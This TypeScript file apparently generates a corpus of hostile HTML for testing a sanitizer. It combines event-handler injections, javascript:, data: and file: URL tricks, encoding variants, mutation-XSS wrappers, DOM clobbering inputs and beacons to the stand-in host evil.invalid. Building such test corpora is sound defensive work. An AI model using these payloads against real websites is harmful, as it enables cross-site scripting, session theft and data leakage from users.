// Every snippet tries to call `taken()`, to open a dialog, or to ask `evil.invalid` for something. They are made out of their
// parts, tag by handler, scheme by spelling by place, wrapper by payload, so that none is forgotten and each says what it is.

const evil = 'https://evil.invalid/x'

const handled: readonly [tag: string, rest: string][] = [
  ['img', 'src=x'],
  ['svg', ''],
  ['body', ''],
  ['video', 'src=x'],
  ['audio', 'src=x'],
  ['details', 'open'],
  ['input', 'autofocus'],
  ['select', 'autofocus'],
  ['marquee', ''],
  ['iframe', `src="${evil}"`],
  ['object', 'data=x'],
  ['a', 'href="#" tabindex=0 autofocus'],
  ['p', 'style="animation: a 1s" class=evil'],
  ['x-evil', 'contenteditable'],
]

const handlers = [
  'onerror',
  'onload',
  'onclick',
  'onfocus',
  'onfocusin',
  'ontoggle',
  'onstart',
  'onanimationstart',
  'ontransitionend',
  'onpointerover',
  'onmouseenter',
  'onbeforeinput',
  'onpaste',
  'oncopy',
  'onscroll',
  'onpageshow',
  'onloadstart',
  'ONERROR',
]

/** Between a tag's name and its attributes a browser takes more than a space. */
const separators = [' ', '/', '\n', '\t', '\f']

function withHandlers(): string[] {
  return handled.flatMap(([tag, rest], row) =>
    handlers.map((handler, column) => {
      const separator = separators[(row + column) % separators.length] ?? ' '
      const value = column % 3 === 0 ? 'taken()' : column % 3 === 1 ? '"alert(1);taken()"' : "'taken()//'"
      return `<${tag}${separator}${rest}${separator}${handler}=${value}>words</${tag}>`
    }),
  )
}

const schemes: readonly string[] = [
  'javascript:taken()',
  'javascript://example.org/%0ataken()',
  'javascript://:99999999999/%0ataken()',
  'vbscript:taken()',
  'data:text/html,<script>taken()</script>',
  'data:text/html;base64,PHNjcmlwdD50YWtlbigpPC9zY3JpcHQ+',
  'data:image/svg+xml,<svg onload=taken()>',
  'blob:https://evil.invalid/1',
  'file:///etc/passwd',
  'filesystem:https://evil.invalid/x',
  'view-source:https://evil.invalid/x',
  'ms-word:ofe|u|https://evil.invalid/x',
  'smb://evil.invalid/x',
  '//evil.invalid/x',
]

const spellings: readonly ((address: string) => string)[] = [
  address => address,
  address => ` \u0001${address}`,
  address => address.replace(/^(\w)(\w+)/, '$1\t$2'),
  address => [...address].map((letter, at) => (at < 4 ? `&#${letter.codePointAt(0)};` : letter)).join(''),
  address =>
    [...address].map((letter, at) => (at < 4 ? `&#x${letter.codePointAt(0)?.toString(16)}` : letter)).join(';'),
  address => address.replace(':', '&colon;'),
  address => address.replace(/^\w+/, scheme => [...scheme].map((l, at) => (at % 2 ? l.toUpperCase() : l)).join('')),
]

const places: readonly ((address: string) => string)[] = [
  address => `<a href="${address}">here</a>`,
  address => `<iframe src="${address}"></iframe>`,
  address => `<form action="${address}"><button formaction="${address}">go</button></form>`,
  address => `<svg><a xlink:href="${address}"><text>here</text></a></svg>`,
  address => `<math href="${address}">here</math>`,
  address => `<object data="${address}"></object><embed src="${address}">`,
  address => `<img src="${address}"><img srcset="${address} 2x"><input type=image src="${address}">`,
  address => `<base href="${address}"><link rel=stylesheet href="${address}">`,
]

function withAddresses(): string[] {
  return schemes.flatMap((address, row) =>
    spellings.map((spell, column) => (places[(row + column) % places.length] ?? String)(spell(address))),
  )
}

const payloads = [
  '<script>taken()</script>',
  '<img src=x onerror=taken()>',
  '<style>@import url(https://evil.invalid/x);</style>',
  `<img src="${evil}">`,
  '<iframe srcdoc="<script>parent.taken()</script>"></iframe>',
  '<svg onload=taken()>',
  '<style><img src=x onerror=taken()></style>',
  '<div style="background:url(https://evil.invalid/x);position:fixed">words</div>',
]

/** Places where a browser reads the same text in two ways, or hides it from who cleans it. */
const wrappers: readonly ((inner: string) => string)[] = [
  inner => `<svg>${inner}</svg>`,
  inner => `<math><mtext><table><mglyph>${inner}</mglyph></table></mtext></math>`,
  inner => `<svg><foreignObject>${inner}</foreignObject></svg>`,
  inner => `<svg></p><style><g title="</style>${inner}">`,
  inner => `<noscript><p title="</noscript>${inner}">`,
  inner => `<template>${inner}</template>`,
  inner => `<template shadowrootmode=open>${inner}</template>`,
  inner => `<textarea></textarea>${inner}</textarea>`,
  inner => `<title></title>${inner}</title>`,
  inner => `<xmp></xmp>${inner}</xmp>`,
  inner => `<!--><!-- -->${inner}<!-- -->`,
  inner => `<!DOCTYPE x [<!ENTITY y "${inner}">]>&y;`,
  inner => `<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea>${inner}">`,
  inner => `<select><option>${inner}</option></select>`,
  inner => `<table><tr><td>words</td>${inner}</tr></table>`,
  inner => `<listing>&lt;${inner}</listing>`,
  inner => `<a href="https://example.org/${inner}">words</a>`,
  inner => `<p title='${inner}'>words</p>`,
]

const alone = [
  `<meta http-equiv=refresh content="0;url=${evil}">`,
  `<link rel=preconnect href="${evil}"><link rel=prefetch href="${evil}">`,
  `<portal src="${evil}"></portal><fencedframe src="${evil}"></fencedframe>`,
  '<form id=f><input name=childNodes><input name=attributes><input name=removeChild></form>',
  '<form><input name=nodeType><input name=localName><img src=x onerror=taken()></form>',
  `<video><source src="${evil}" onerror=taken()></video>`,
  `<p is="x-evil" slot=x part=y>words</p>`,
  `<a href="https://example.org/" ping="${evil}" download target=_top>words</a>`,
  `<table background="${evil}"><td background="${evil}">words</table>`,
  '<button popovertarget=x onbeforetoggle=taken()>x</button><div popover id=x>words</div>',
]

export const hostileHtml: readonly string[] = [
  ...withHandlers(),
  ...withAddresses(),
  ...wrappers.flatMap(wrap => payloads.map(wrap)),
  ...alone,
]
